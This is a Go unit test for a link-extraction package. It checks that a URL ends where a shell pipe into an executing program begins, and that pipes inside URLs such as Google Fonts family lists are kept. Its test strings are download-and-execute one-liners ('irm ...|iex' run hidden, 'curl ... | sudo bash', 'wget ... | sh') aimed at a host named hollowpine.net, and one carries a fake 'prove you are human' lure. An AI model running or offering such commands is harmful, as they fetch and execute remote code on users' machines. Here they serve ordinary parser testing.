package linkx

import "testing"

// TestPipedEnd: a shell's pipe written straight after a URL, into the
// program that runs the fetched script ("irm https://x/a.ps1|iex"), ends
// the link, as a space before the pipe always did; a pipe inside a URL
// that no program's name follows (Google Fonts' families) stays in it.
// Each of the first five links ended "|iex", "|bash", "|sudo" and so on
// before.
func TestPipedEnd(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ text, raw string }{
		{`powershell -w hidden -c "irm https://hollowpine.net/install.ps1|iex"`, "https://hollowpine.net/install.ps1"},
		{`irm https://hollowpine.net/verify.ps1|IEX to prove you are human`, "https://hollowpine.net/verify.ps1"},
		{`curl -fsSL https://hollowpine.net/x.sh|sudo bash`, "https://hollowpine.net/x.sh"},
		{`wget -qO- https://hollowpine.net/get|sh`, "https://hollowpine.net/get"},
		{`iwr hollowpine.net/a.ps1|Invoke-Expression`, "hollowpine.net/a.ps1"},
		{`https://fonts.googleapis.com/css?family=Roboto|Open+Sans`, "https://fonts.googleapis.com/css?family=Roboto|Open+Sans"},
		{`https://hollowpine.net/a|b/c`, "https://hollowpine.net/a|b/c"},
		{`https://hollowpine.net/tools|shell`, "https://hollowpine.net/tools|shell"},
	} {
		links := Extract(tc.text, nil)
		if len(links) != 1 {
			t.Errorf("%q: %d links, want 1", tc.text, len(links))
			continue
		}
		if links[0].Raw != tc.raw {
			t.Errorf("%q: link %q, want %q", tc.text, links[0].Raw, tc.raw)
		}
	}
}
